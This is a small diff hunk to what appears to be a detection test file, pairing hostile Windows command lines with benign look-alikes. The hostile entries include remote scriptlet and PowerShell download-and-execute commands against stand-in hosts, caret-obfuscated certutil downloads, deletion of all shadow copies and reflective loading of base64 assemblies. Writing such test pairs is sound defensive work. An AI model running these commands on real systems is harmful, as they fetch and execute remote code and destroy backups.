@@ -40,7 +40,7 @@ PAIRS = [
     (r"pubprn.vbs 127.0.0.1 script:http://198.51.100.7/a.sct", "cscript build.vbs 127.0.0.1"),
     (r"%COMSPEC% /c vssadmin delete shadows /all", "%COMSPEC% /c vssadmin list shadows"),
     ("c^m^d /c ce^rtu^til -urlcache -f http://198.51.100.7/a a", "c^m^d /c e^cho a"),
-    (r"iex (irm https://x.example/a.ps1)", "iex (irm https://x.example/install.ps1)"),
+    (r"iex (irm https://x.example/a.ps1)", "irm https://x.example/a.ps1 -OutFile a.ps1"),
     ("& ([scriptblock]::Create((irm https://x.example/a.ps1)))", "& ([scriptblock]::Create('Get-Date'))"),
     (
         "[Reflection.Assembly]::Load([Convert]::FromBase64String($b))",
